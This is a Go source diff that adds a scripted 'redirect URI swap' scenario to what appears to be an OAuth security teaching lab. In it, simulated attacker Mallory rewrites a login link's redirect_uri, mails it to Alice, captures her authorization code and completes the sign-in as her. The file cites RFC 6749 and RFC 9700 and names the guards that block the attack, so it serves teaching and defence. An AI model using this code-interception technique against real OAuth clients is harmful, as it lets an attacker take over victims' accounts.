@@ -1,0 +1,48 @@
+package attack
+
+import (
+	"context"
+	"net/url"
+
+	"oauthlab/lessons/guard"
+)
+
+// redirectSwap: Mallory begins a login at the client, swaps the redirect URI in the
+// link for her own address, and has Alice open it (RFC 6749 §10.6). The code that
+// comes to her fits the verifier of her own login: PKCE does not help.
+func redirectSwap() Attack {
+	return Attack{
+		ID:      "redirect-swap",
+		Title:   "The redirect URI swapped",
+		Story:   "Mallory begins a login, puts her own address into its link, and mails it to Alice. The code that comes back fits Mallory's login.",
+		Chapter: "v03", StoppedBy: []guard.ID{guard.IDRedirectURI, guard.IDCodeRedirectURI},
+		Loss:     "Mallory's session at the client is Alice's.",
+		Sections: []string{"RFC 6749 §10.6", "RFC 9700 §4.1"},
+		Run: func(ctx context.Context, s *Scene) error {
+			request, err := s.Mallory.Begin(ctx)
+			if err != nil {
+				return err
+			}
+			swapped, err := url.Parse(request)
+			if err != nil {
+				return err
+			}
+			q := swapped.Query()
+			q.Set("redirect_uri", s.Lab.Origins.MallorySite(s.Lab.ID))
+			swapped.RawQuery = q.Encode()
+			if err := s.mail(ctx, swapped.String()); err != nil {
+				return err
+			}
+			arrived, err := s.Alice.SignInHere(ctx)
+			if err != nil || parameter(arrived, "code") == "" {
+				return err
+			}
+			answer := url.Values{"code": {parameter(arrived, "code")}}
+			if state := parameter(arrived, "state"); state != "" {
+				answer.Set("state", state)
+			}
+			return s.Mallory.Finish(ctx, s.Lab.Origins.RedirectURI()+"?"+answer.Encode())
+		},
+		Harm: clientTook(malloryOf, "alice"),
+	}
+}
